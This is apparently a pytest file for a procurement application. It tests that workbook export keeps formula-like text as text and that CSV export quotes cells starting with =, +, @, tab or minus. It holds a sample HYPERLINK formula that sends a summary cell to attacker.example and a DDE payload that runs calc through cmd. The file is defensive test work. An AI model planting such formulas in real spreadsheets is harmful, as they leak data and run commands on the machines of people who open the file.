"""Text people typed is shown by a spreadsheet, never run: workbooks store it as text, CSV files quote it."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from carepool.core.money import Money
from carepool.core.workbook import add_table_sheet, inert, new_workbook
from carepool.procurement.model import TenderStatus
from carepool.procurement.publication import PublicTender, contracts_csv
from carepool.procurement.reports import AwardLine

ATTACK = '=HYPERLINK("https://attacker.example/?d="&Summary!B6,"Open supporting evidence")'


def test_a_workbook_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    book = new_workbook()
    add_table_sheet(book, "Variations", ["number", "description", "amount"], [[1, ATTACK, Decimal("-1334.18")]])
    book.save(tmp_path / "v.xlsx")
    cell = load_workbook(tmp_path / "v.xlsx")["Variations"]["B2"]
    assert cell.data_type == "s" and cell.value == ATTACK


def test_csv_cells_that_would_run_are_quoted_and_numbers_are_not() -> None:
    assert [inert(v) for v in (ATTACK, "+44 20 7946", "@SUM(A1)", "\tx", "-abc")] == [
        "'" + ATTACK, "'+44 20 7946", "'@SUM(A1)", "'\tx", "'-abc"]
    assert [inert(v) for v in ("-1334.18", "£1,234.50", "-5%", "Kindly Care", 12)] == [
        "-1334.18", "£1,234.50", "-5%", "Kindly Care", 12]


def test_the_public_contracts_file_quotes_a_provider_named_like_a_formula() -> None:
    line = AwardLine(id=1, lot_code="L1", lot_name="Brent", provider_code="1-000000001", provider_name=ATTACK, sme=True,
                     weekly_quantity=Decimal("100.00"), price=Money.parse("20.00"),
                     weekly_cost=Money.parse("2000.00"), annual_value=Money.parse("104000.00"), contract_ref=None,
                     start=date(2027, 1, 1),
                     end=date(2030, 12, 31), source="optimiser")
    text = contracts_csv([PublicTender("CP-1", "=cmd|' /C calc'!A0", TenderStatus.AWARDED, None, [line])])
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[1] == "'=cmd|' /C calc'!A0" and row[5] == "'" + ATTACK and row[8] == "20.00"
